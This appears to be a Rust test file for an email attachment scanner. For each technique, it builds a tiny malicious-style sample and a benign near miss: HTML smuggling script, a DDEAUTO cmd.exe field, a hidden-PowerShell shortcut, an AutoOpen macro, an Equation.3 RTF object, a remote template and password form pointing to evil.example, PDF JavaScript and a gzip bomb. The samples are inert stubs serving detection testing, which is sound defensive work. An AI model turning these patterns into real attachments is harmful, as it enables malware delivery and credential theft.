//! Each trick of an attachment in a small file made here, and beside it a near miss that must stay silent. No file of these
//! does anything.

use std::collections::BTreeSet;
use std::io::{Cursor, Write};
use std::sync::LazyLock;

use hotro::analysis::evidence::Sample;
use hotro::base::locale::{Language, Languages};
use hotro::infra::zip::locked_zip;
use proptest::prelude::*;

use crate::analysis_msg::report;
use crate::mail_support::{examiner, known};

/// The mail itself with a file, and these words in its text.
pub(crate) fn mail(name: &str, bytes: &[u8], words: &str) -> Sample {
    let raw = report(name, bytes);
    let at = raw.windows(13).position(|part| part == b"Xin kiem tra.").unwrap();
    let raw = [&raw[..at], words.as_bytes(), &raw[at..]].concat();
    examiner().examine(&raw, &known(), true).samples.remove(0)
}

pub(crate) fn codes(name: &str, bytes: &[u8]) -> BTreeSet<String> {
    mail(name, bytes, "").findings.into_iter().map(|finding| finding.code).collect()
}

pub(crate) fn zip(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut archive = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in files {
        archive.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
        archive.write_all(bytes).unwrap();
    }
    archive.finish().unwrap().into_inner()
}

fn document(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut all: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", b"<Types/>"),
        ("_rels/.rels", b"<Relationships/>"),
        ("word/document.xml", b"<w:document/>"),
    ];
    all.retain(|(name, _)| parts.iter().all(|(other, _)| other != name));
    all.extend_from_slice(parts);
    zip(&all)
}

/// A project of macros whose one module holds this source, uncompressed (MS-OVBA 2.4.1.1.5).
pub(crate) fn project(source: &str) -> Vec<u8> {
    let mut module = vec![b' '; 4096];
    let text = format!("Attribute VB_Name = \"m\"\r\n{source}\r\n");
    module[..text.len()].copy_from_slice(text.as_bytes());
    // The container begins with a flag byte that a compressed chunk has for its first eight letters.
    let packed: Vec<u8> = module.chunks(8).flat_map(|eight| std::iter::once(0).chain(eight.iter().copied())).collect();
    let size = u16::try_from(packed.len() - 1).unwrap();
    let mut stream = vec![1];
    stream.extend_from_slice(&(size & 0xfff | 0xb000).to_le_bytes());
    stream.extend_from_slice(&packed);
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    file.create_storage("/VBA").unwrap();
    file.create_stream("/VBA/m").unwrap().write_all(&stream).unwrap();
    file.flush().unwrap();
    file.into_inner().into_inner()
}

fn relationship(kind: &str) -> String {
    format!(
        "<Relationships><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\" \
         Target=\"http://evil.example/a.dotm\" TargetMode=\"External\"/></Relationships>"
    )
}

fn shortcut(words: &str) -> Vec<u8> {
    let mut bytes = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F".to_vec();
    bytes.extend_from_slice(&(0x20_u32 | 0x80).to_le_bytes());
    bytes.resize(76, 0);
    let letters: Vec<u16> = words.encode_utf16().collect();
    bytes.extend_from_slice(&u16::try_from(letters.len()).unwrap().to_le_bytes());
    bytes.extend(letters.iter().flat_map(|letter| letter.to_le_bytes()));
    bytes
}

fn rich_text(class: &str) -> Vec<u8> {
    let mut object = vec![1, 5, 0, 0, 2, 0, 0, 0];
    object.extend_from_slice(&u32::try_from(class.len() + 1).unwrap().to_le_bytes());
    object.extend_from_slice(class.as_bytes());
    object.extend_from_slice(&[0; 13]);
    let hex: String = object.iter().map(|byte| format!("{byte:02x}")).collect();
    format!("{{\\rtf1 chao {{\\object\\objemb{{\\*\\objdata {hex}}}}}}}").into_bytes()
}

pub(crate) fn pdf(action: &str) -> Vec<u8> {
    format!("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R {action} >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
        .into_bytes()
}

fn gzip(size: usize) -> Vec<u8> {
    let mut out = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    out.write_all(&vec![0; size]).unwrap();
    out.finish().unwrap()
}

const FORM: &[u8] =
    b"<html><body><form action=\"http://evil.example\"><input type=password name=p></form></body></html>";
const SMUGGLED: &[u8] = b"<html><script>var b=new Blob([atob('TVqQ')]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='x.iso';a.click()</script></html>";

/// Code, file name, the file that must raise it, the one that must not.
type Trick = (&'static str, &'static str, Vec<u8>, Vec<u8>);

static TRICKS: LazyLock<Vec<Trick>> = LazyLock::new(tricks);

fn tricks() -> Vec<Trick> {
    let rels = |kind| document(&[("word/_rels/settings.xml.rels", relationship(kind).as_bytes())]);
    let field = |code: &str| {
        let xml = format!("<w:document><w:fldSimple w:instr=\"{code}\"/></w:document>");
        document(&[("word/document.xml", xml.as_bytes())])
    };
    let macros = |source| document(&[("word/vbaProject.bin", &project(source))]);
    vec![
        (
            "HTML_SMUGGLING",
            "a.html",
            SMUGGLED.to_vec(),
            b"<html><script>var x = atob('TVqQ'); show(x)</script></html>".to_vec(),
        ),
        ("CONTAINED_PROGRAM", "a.zip", zip(&[("hoa don.exe", b"MZ\x90\0")]), zip(&[("hoa don.txt", b"chao")])),
        ("REMOTE_TEMPLATE", "a.docx", rels("attachedTemplate"), rels("hyperlink")),
        ("OFFICE_DDE", "a.docx", field("DDEAUTO c:\\\\windows\\\\cmd.exe"), field("PAGE")),
        ("SHORTCUT_COMMAND", "a.lnk", shortcut("/c powershell -w hidden"), shortcut("ho-so.txt")),
        ("MACRO_AUTORUN", "a.docm", macros("Sub AutoOpen()\r\nEnd Sub"), macros("Sub TinhTong()\r\nEnd Sub")),
        ("EXPLOIT_OBJECT", "a.rtf", rich_text("Equation.3"), rich_text("Word.Picture.8")),
        ("CONTAINED_FORM", "a.zip", zip(&[("a.html", FORM)]), zip(&[("a.html", b"<html><body>chao</body></html>")])),
        (
            "PDF_ACTION",
            "a.pdf",
            pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
            pdf("/OpenAction [3 0 R /Fit]"),
        ),
        ("ARCHIVE_BOMB", "a.gz", gzip(3 << 20), gzip(100_000)),
    ]
}

#[test]
fn every_trick_is_seen_and_its_near_miss_is_not() {
    for (code, name, bad, good) in TRICKS.iter() {
        let (seen, spared) = (codes(name, bad), codes(name, good));
        assert!(seen.contains(*code), "{code} not in {seen:?}");
        assert!(!spared.contains(*code), "{code} in {spared:?}");
        let english = Languages::default().words(Language::En);
        let sample = mail(name, bad, "");
        let finding = sample.findings.iter().find(|finding| finding.code == *code).unwrap();
        let said = hotro::analysis::signal::sentence(&english, finding);
        assert!(finding.at == "attachment:0" && !said.contains('{') && said != finding.reason, "{said}");
        assert!(!finding.reason.contains("http:"), "{}", finding.reason);
    }
}

#[test]
fn a_locked_file_opens_with_the_password_of_the_mail_and_with_no_other() {
    let locked = locked_zip("ho so.exe", b"MZ\x90\0 khong phai ma doc", "Lc@2026").unwrap();
    let opened = mail("a.zip", &locked, "Mật khẩu giải nén: Lc@2026 \r\n");
    let finding = opened.findings.iter().find(|finding| finding.code == "PASSWORD_IN_MAIL").unwrap();
    assert!(finding.reason.contains("Lc[@]2026"), "{}", finding.reason);
    let closed = mail("a.zip", &locked, "Mật khẩu giải nén: 123456 \r\n");
    assert!(closed.findings.iter().all(|finding| finding.code != "PASSWORD_IN_MAIL"));
    assert!(closed.attachments[0].encrypted && closed.attachments[0].contents[0].encrypted);
}

#[test]
fn files_inside_are_listed_and_their_links_found() {
    let inner = zip(&[("trong/a.txt", b"chao"), ("b.html", b"<a href=\"http://in.example/x\">mo</a>")]);
    let sample = mail("ngoai.zip", &zip(&[("giua.zip", &inner)]), "");
    let names: Vec<&str> = sample.attachments[0].contents.iter().map(|one| one.name.as_str()).collect();
    assert_eq!(names, ["giua.zip", "giua.zip/trong/a.txt", "giua.zip/b.html"]);
    let link = sample.links.iter().find(|link| link.url == "http://in.example/x").unwrap();
    assert_eq!(link.within.as_deref(), Some("ngoai.zip/giua.zip/b.html"));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    /// A valid file in which some bytes were changed, or that breaks off, is read without harm.
    #[test]
    fn broken_files_do_no_harm(which in 0_usize..10, cut in 0_usize..6000, at in proptest::collection::vec((0_usize..6000, any::<u8>()), 0..12)) {
        let (_, name, bytes, _) = &TRICKS[which];
        let mut bytes = bytes.clone();
        for (at, byte) in at {
            if let Some(place) = bytes.get_mut(at) {
                *place = byte;
            }
        }
        bytes.truncate(cut.max(bytes.len() / 4));
        mail(name, &bytes, "");
    }
}
